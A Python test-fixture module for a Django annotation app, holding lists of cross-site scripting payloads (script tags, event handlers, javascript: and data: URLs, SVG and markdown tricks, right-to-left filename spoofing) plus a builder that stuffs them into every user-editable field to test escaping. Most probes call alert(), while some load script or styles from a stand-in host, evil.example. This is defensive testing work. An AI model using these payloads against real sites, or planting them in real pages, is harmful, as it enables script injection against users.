"""Hostile text for the XSS tests: each entry tries to run script, inject markup or mislead the
reader if a page renders it unescaped or a sanitizer lets it through. Every one that would execute
calls alert(), so a browser test notices it by the dialog."""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<!--<script>--><script>alert(1)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    '<body onload="alert(1)">',
    "<div onmouseover=alert(1)>hover me</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<iframe onload=alert(1)>",
]

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    '<a href="javascript:alert(1)">click</a>',
    "<a href=data:text/html,<script>alert(1)</script>>click</a>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
]

SVG_AND_MATH = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
]

BROKEN_MARKUP = [
    "<img src=x onerror=alert(1)",
    "<<script>alert(1);//<</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<a href="x" onclick="alert(1)"',
    "</p></div></section><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "{{ 7|add:7 }} {% now 'Y' %} ${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "<div hx-get=/admin/ hx-trigger=load hx-on:htmx:load=alert(1)>x</div>",
]

MARKDOWN_TRICKS = [
    "[click me](javascript:alert(1))",
    "[click me](JAVASCRIPT:alert(1))",
    "[click me](javascript&#58;alert(1))",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![image](javascript:alert(1))",
    '[x](https://example.org "title" onmouseover="alert(1)")',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[a](<javascript:alert(1)>)",
    "**bold<script>alert(1)</script>**",
    "`code` <img src=x onerror=alert(1)> `more`",
    "> quote <svg onload=alert(1)>",
]

UNICODE = [
    "invoice\u202egnp.exe",  # right-to-left override: reads as "invoiceexe.png"
    "\u2066admin\u2069 \u2067evil\u2069",
    "\u200bjavascript:alert(1)",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",  # fullwidth brackets
    "\u0000<script>alert(1)</script>",
]

PAYLOADS = SCRIPT_TAGS + EVENT_HANDLERS + URLS + SVG_AND_MATH + BROKEN_MARKUP + MARKDOWN_TRICKS + UNICODE

# Well-formed http(s) addresses that still carry hostile characters into an href.
HOSTILE_HTTP_URLS = [
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    "https://example.org/?q=<img/src=x/onerror=alert(1)>",
    "http://example.org/#javascript:alert(1)",
    "https://example.org/\u202egnp.exe",
]

# Addresses a source must never accept.
NON_HTTP_URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://example.org/x",
    "mailto:someone@example.org",
]


def unique_ci(texts):
    """The texts with case-insensitive duplicates dropped (tag names are unique regardless of case)."""
    seen = set()
    return [t for t in texts if not (t.lower() in seen or seen.add(t.lower()))]


def build_hostile_workspace(password):
    """A workspace in which every user-writable field holds hostile text, and a superuser ("boss",
    with `password`) who sees all of it. Returns the records the pages are built from."""
    from urllib.parse import quote

    from django.contrib.auth import get_user_model

    from annotations import services
    from annotations.importing.load import import_report_file
    from annotations.models import (
        Comment,
        Membership,
        Passage,
        Report,
        Role,
        Section,
        Tag,
        TaggedPassage,
        Workspace,
    )

    # PostgreSQL cannot store NUL characters (and Django's form fields refuse them).
    PAYLOADS = [p.replace("\x00", "\ufffd") for p in globals()["PAYLOADS"]]
    User = get_user_model()
    boss = User.objects.create_superuser("boss", password=password)
    workspace = Workspace.objects.create(name=PAYLOADS[0], slug="hostile")
    Workspace.objects.bulk_create(Workspace(name=p, slug=f"hostile-{i}") for i, p in enumerate(PAYLOADS[1:], 1))
    Membership.objects.create(workspace=workspace, user=boss, role=Role.CURATOR)
    # Usernames are NFKC-normalized, which folds some payloads together: a number keeps them apart.
    users = [
        User.objects.create_user(f"{i}{p}"[:150], first_name=p[:150], last_name=p[:150]) for i, p in enumerate(PAYLOADS)
    ]
    Membership.objects.bulk_create(Membership(workspace=workspace, user=u, role=Role.ANNOTATOR) for u in users)

    for i, p in enumerate(PAYLOADS):
        Report.objects.create(workspace=workspace, title=p, slug=f"listed-{i}", authors=p, publisher=p)
    report = Report.objects.create(workspace=workspace, title=PAYLOADS[1], slug="hostile-report", imported_by=boss)
    section = Section.objects.create(report=report, order=1, title=PAYLOADS[2])
    passages = [
        Passage.objects.create(report=report, section=section, order=i, text=p, label=p[:20], footnotes=[p[:20]])
        for i, p in enumerate(PAYLOADS, 1)
    ]
    first = passages[0]
    tags = [
        Tag.objects.create(workspace=workspace, name=p, slug=f"hostile-tag-{i}", description=p)
        for i, p in enumerate(unique_ci(PAYLOADS))
    ]
    TaggedPassage.objects.bulk_create(TaggedPassage(content_object=first, tag=t, added_by=users[0]) for t in tags)
    for passage, tag in zip(passages, tags, strict=False):
        services.highlight_create(passage=passage, start=0, end=len(passage.text), user=boss, tags=[tag.name])
    threads = [Comment.objects.create(passage=first, author=u, body=p) for u, p in zip(users, PAYLOADS, strict=True)]
    for thread in threads[:10]:
        Comment.objects.create(passage=first, parent=thread, author=boss, body=thread.body)
    urls = HOSTILE_HTTP_URLS + [f"https://example.org/{i}?q={quote(p)}" for i, p in enumerate(PAYLOADS)]
    for i, (url, p) in enumerate(zip(urls, PAYLOADS + PAYLOADS, strict=False)):
        source, _ = services.source_get_or_create(
            workspace=workspace, url=url, title=p, authors=p, publisher=p, notes=p
        )
        services.source_link_create(passage=first, source=source, user=users[i % len(users)], note=p, footnote=p[:20])

    imported = {}
    text = "\n\n".join(PAYLOADS).encode()
    html = "".join(f"<p>{p}</p>" for p in PAYLOADS).encode()
    for filename, data in (("hostile.txt", text), ("hostile.md", text), ("hostile.html", html)):
        result = import_report_file(data, filename=filename, workspace=workspace, title=PAYLOADS[3], imported_by=boss)
        imported[filename] = result.report
    return {
        "boss": boss,
        "workspace": workspace,
        "report": report,
        "passage": first,
        "tags": tags,
        "users": users,
        "imported": imported,
    }
